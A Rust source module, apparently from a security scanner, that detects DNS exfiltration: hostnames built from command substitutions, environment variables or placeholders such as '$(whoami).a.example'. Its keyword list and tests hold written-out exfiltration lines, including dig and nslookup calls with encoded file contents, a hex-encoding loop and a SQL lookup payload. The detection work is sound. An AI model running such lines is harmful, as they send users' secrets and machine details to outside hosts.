//! Names of hosts that a command, a variable or a gap puts something into: `$(whoami).a.example`, `<secret>.a.example`.
//!
//! The name service carries it out although no address stands there. *Security*: hostile bytes; looks a bounded way around each
//! keyword. *Standards*: RFC 1035, section 2.3.1.

use std::ops::Range;

use super::host::{self, Host, takes};
use super::label::domain_behind;
use super::naming::{is_confidential, is_private};
use super::placeholder::reads_machine;
use super::rule;
use crate::rule::Hit;
use crate::rule::Strength::{Addressed, Mentioned};

/// What fills such a name, or ends what is to be filled in.
pub(super) const FILLERS: [&str; 31] = [
    "resolve-dnsname ",
    "gethostbyname(",
    "getaddrinfo(",
    "inetaddress.getbyname(",
    "get_host_address(",
    "dnsresolve(",
    "dns.lookup(",
    "dns').lookup(",
    "dns.resolve",
    "lookuphost(",
    "stun:",
    "turn:",
    "gethostaddresses(",
    "$(",
    "%username%",
    "%computername%",
    "%userdomain%",
    "%userprofile%",
    "}}.",
    ">.",
    "nslookup ",
    "dig ",
    "host $",
    "hosts $",
    "ping $",
    "${hostname}.",
    "${user}.",
    "$hostname.",
    "$user.",
    "${username}.",
    "`.",
];

/// The longest gap to fill in, bytes.
const GAP_BYTES_MAX: usize = 48;

/// The longest command that is put in, bytes, and how many there may be in a name.
const COMMAND_BYTES_MAX: usize = 160;
const PARTS_MAX: usize = 6;

/// The ends of calls that look a name up.
const RESOLVERS: [&[u8]; 4] = [b"(", b"resolve", b"stun:", b"turn:"];

/// The name around a filler, if something is put into it.
pub(super) fn filled(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
    let written = bytes.get(word.clone())?;
    match written {
        b"}}." => gap(bytes, word, b'{'),
        b">." => gap(bytes, word, b'<'),
        b"$(" => command(bytes, word.start),
        b"`." => quoted(bytes, word.start),
        _ if RESOLVERS.iter().any(|end| written.ends_with(end)) => joined(bytes, word),
        _ if written.ends_with(b"$") => asked(bytes, word.start..word.end - 1),
        _ if written.starts_with(b"$") => own(bytes, word),
        _ if written.starts_with(b"%") => variable(bytes, word),
        _ => asked(bytes, word),
    }
}

/// A gap to fill in, `{{api_key}}`, as a label; `close` is the end of the gap.
fn gap(bytes: &[u8], close: Range<usize>, opener: u8) -> Option<Hit> {
    let before = bytes.get(close.start.saturating_sub(GAP_BYTES_MAX)..close.start)?;
    let open = before.iter().rposition(|byte| *byte == opener)?;
    let name = before.get(open + 1..)?.to_ascii_lowercase();
    // Types of a program have their parameters in the same brackets.
    let is_typed = before.get(..open)?.last().is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b':');
    if opener == b'<' && is_typed {
        return None;
    }
    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || b" _-.'".contains(byte) || !byte.is_ascii();
    let rest = bytes.get(close.end - 1..)?;
    let host = domain(rest)?;
    let takes = takes(&host)
        || host::host(&host, b"") == Host::Collector
        || is_private(&name) && is_resolved(bytes, close.start - name.len());
    let is_sought = if opener == b'{' { is_confidential(&name) } else { is_private(&name) };
    (is_sought && name.iter().all(is_name)).then(|| Hit {
        rule: rule::PLACEHOLDER,
        range: close.start - name.len()..close.end + host.len(),
        strength: if takes { Addressed } else { Mentioned },
    })
}

/// `$(command)` as a label, others of its kind behind it.
fn command(bytes: &[u8], start: usize) -> Option<Hit> {
    let (mut at, mut strong, mut reads) = (start, false, false);
    for _ in 0..PARTS_MAX {
        let rest = bytes.get(at..)?;
        if !rest.starts_with(b"$(") {
            break;
        }
        let end = rest.iter().take(COMMAND_BYTES_MAX).position(|byte| matches!(byte, b')' | b'\n'))?;
        let inner = rest.get(..end).filter(|_| rest.get(end) == Some(&b')'))?.to_ascii_lowercase();
        let is_host = |word: &[u8]| memchr::memmem::find(&inner, word).is_some();
        strong |= reads_machine(&inner) && !is_host(b"hostname") && !is_host(b" ls") && !is_host(b"find ");
        reads |= reads_machine(&inner) || is_host(b"uname");
        at += end + 1;
        let behind = bytes.get(at..)?;
        // Another command follows a dot or a dash.
        at += usize::from(matches!(behind, [b'.' | b'-', b'$', b'(', ..]));
    }
    let host = domain(bytes.get(at..)?)?;
    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || looks_up(bytes, start);
    reads.then(|| Hit {
        rule: rule::PLACEHOLDER,
        range: start..at + host.len(),
        strength: if strong || taken { Addressed } else { Mentioned },
    })
}

/// `%USERNAME%` as a label, others of its kind behind it.
fn variable(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
    let host = domain(bytes.get(word.end..)?)?;
    Some(Hit { rule: rule::PLACEHOLDER, range: word.start..word.end + host.len(), strength: Addressed })
}

/// `${HOSTNAME}` as a label: machines call themselves so in their own domain, and nobody asks the name service that way.
fn own(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
    let host = domain(bytes.get(word.end - 1..)?)?;
    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || looks_up(bytes, word.start);
    Some(Hit {
        rule: rule::PLACEHOLDER,
        range: word.start..word.end + host.len(),
        strength: if taken { Addressed } else { Mentioned },
    })
}

/// `gethostbyname(user + ".a.example")`: whatever a program puts before a name is looked up.
fn joined(bytes: &[u8], call: Range<usize>) -> Option<Hit> {
    let rest = bytes.get(call.end..call.end.saturating_add(COMMAND_BYTES_MAX).min(bytes.len()))?;
    let line = rest.split(|byte| *byte == b'\n').next()?;
    let places = line.windows(2).enumerate().filter(|(_, two)| matches!(two, [b'"' | b'\'' | b'`' | b'}', b'.']));
    places.take(8).find_map(|(at, _)| {
        let host = domain(line.get(at + 1..)?)?;
        let before = line.get(..at)?.trim_ascii_end();
        // Texts are joined, or a value is put into one.
        let is_put = line.get(at) == Some(&b'}');
        let is_joined = is_put || matches!(before.last(), Some(b'+' | b'&' | b'|' | b',' | b'.' | b'~' | b'^' | b'%'));
        (is_joined && before.len() > 1).then(|| Hit {
            rule: rule::PLACEHOLDER,
            range: call.start..call.end + at + 1 + host.len(),
            strength: Addressed,
        })
    })
}

/// A command in backticks as a label.
fn quoted(bytes: &[u8], close: usize) -> Option<Hit> {
    let before = bytes.get(close.saturating_sub(GAP_BYTES_MAX)..close)?;
    let line = before.rsplit(|byte| *byte == b'\n').next()?;
    let open = line.iter().rposition(|byte| *byte == b'`')?;
    let start = close - (line.len() - open);
    let host = domain(bytes.get(close + 1..)?)?;
    let inner = line.get(open..)?.to_ascii_lowercase();
    let is_run = reads_machine(&inner) && looks_up(bytes, start);
    is_run.then(|| Hit { rule: rule::PLACEHOLDER, range: start..close + 1 + host.len(), strength: Addressed })
}

/// `nslookup $x.a.example`: whatever the variable holds is asked for.
fn asked(bytes: &[u8], word: Range<usize>) -> Option<Hit> {
    if word.start.checked_sub(1).and_then(|at| bytes.get(at)).is_some_and(u8::is_ascii_alphanumeric) {
        return None;
    }
    let rest = bytes.get(word.end..word.end.saturating_add(COMMAND_BYTES_MAX).min(bytes.len()))?;
    let line = rest.split(|byte| *byte == b'\n').next()?;
    let open = line.iter().position(|byte| matches!(byte, b'$' | b'%'))?;
    let name = line.get(open + 1..)?;
    let name = name.strip_prefix(b"{").unwrap_or(name);
    let name = name.strip_prefix(b"env:").unwrap_or(name);
    let length = name.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    let behind = name.get(length..)?;
    let host = domain(behind.strip_prefix(b"}").unwrap_or(behind)).filter(|_| length > 0)?;
    let taken = takes(&host) || host::host(&host, b"") == Host::Collector || is_fed(bytes, word.start);
    Some(Hit {
        rule: rule::PLACEHOLDER,
        range: word.start..word.end + open + length + host.len(),
        strength: if taken { Addressed } else { Mentioned },
    })
}

/// Whether a loop or a pipe before a command gives it what a file holds, piece by piece.
fn is_fed(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(start.saturating_sub(COMMAND_BYTES_MAX)..start).unwrap_or_default();
    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().to_ascii_lowercase();
    let has = |word: &str| memchr::memmem::find(&line, word.as_bytes()).is_some();
    ["xxd ", "base64", "base32", "fold ", "get-content ", "$(<", "od -", "hexdump", "split "]
        .iter()
        .any(|word| has(word))
        || has("for /f") && has(" in (")
}

/// Whether the line before a name says to look it up.
fn is_resolved(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(start.saturating_sub(96)..start).unwrap_or_default();
    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().to_ascii_lowercase();
    let has = |word: &&str| memchr::memmem::find(&line, word.as_bytes()).is_some();
    looks_up(bytes, start) || ["look up", "lookup", "resolve", " record ", "query "].iter().any(has)
}

/// Whether a command that asks the name service stands before a name on its line.
fn looks_up(bytes: &[u8], start: usize) -> bool {
    let before = bytes.get(start.saturating_sub(48)..start).unwrap_or_default();
    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
    ["dig ", "nslookup ", "drill ", "host ", "getent ", "ping "]
        .iter()
        .any(|word| memchr::memmem::find(line, word.as_bytes()).is_some())
}

/// The name of two labels or more behind a label, without its first dot.
fn domain(rest: &[u8]) -> Option<String> {
    let name = rest.get(..domain_behind(rest)?)?;
    Some(String::from_utf8_lossy(name).trim_matches('.').to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strength(text: &str) -> Option<crate::rule::Strength> {
        FILLERS
            .iter()
            .flat_map(|word| {
                text.to_ascii_lowercase().match_indices(word).map(|(at, word)| at..at + word.len()).collect::<Vec<_>>()
            })
            .filter_map(|place| filled(text.as_bytes(), place))
            .map(|hit| hit.strength)
            .min()
    }

    #[test]
    fn what_a_command_reads_leaves_in_a_name() {
        for text in [
            "dig +short $(whoami).$(hostname).q.h.example.net",
            "getent hosts $(id -un)-$(uname -n).b.example.net",
            "host $(cat /run/x | xxd -p).t.example.io",
            "ping %COMPUTERNAME%.%USERNAME%.w.example.net",
            "{{api_key}}.leak.example.net",
            "nslookup $c.in.dnslog.cn",
            "getent hosts ${HOSTNAME}-${USER}.b.example.net",
            "ping -c1 `uname -n; id`.b.example.net",
            "socket.gethostbyname(getpass.getuser() + \".b.example.net\")",
            "dns.lookup(Buffer.from(key).toString('hex')+'.b.example.net',()=>{})",
            "GET_HOST_ADDRESS((SELECT user FROM dual)||'.b.example.net')",
            "{urls:\"stun:\"+btoa(s)+\".b.example.net\"}",
            "getaddrinfo(f\"{user}.b.example.net\")",
            "for c in $(xxd -p x | fold -w60); do dig $c.b.example.net; done",
            "for /f %i in (a.txt) do nslookup %i.b.example.net",
        ] {
            assert_eq!(strength(text), Some(Addressed), "{text}");
        }
    }

    #[test]
    fn gaps_of_manuals_are_mentioned_and_code_is_not() {
        assert_eq!(strength("look up <first-word-of-secret>.chk.example.net"), Some(Addressed));
        assert_eq!(strength("look up {{api_key}}.chk.example.net"), Some(Mentioned));
        assert_eq!(strength("echo $(hostname).corp.example.net"), Some(Mentioned));
        for text in [
            "Vec<Secret>.into.iter",
            "tar xf $(VERSION).tar.gz",
            "$(basename x).c",
            "<b>bold</b>. And then",
            "cp %USERPROFILE%.bak",
            "dig example.net",
            "digging $x.a.net",
            "gethostbyname(\"a.example.net\")",
            "dns.lookup('a.example.net', cb)",
            "stun:stun.example.net:3478",
            "for i in 1 2; do dig $i.b.example.net; done",
            "getaddrinfo(host, port) # .a.example.net",
            "See `git`. Then",
            "url=https://${HOSTNAME}.corp.example.net/",
        ] {
            assert_ne!(strength(text), Some(Addressed), "{text}");
        }
    }
}
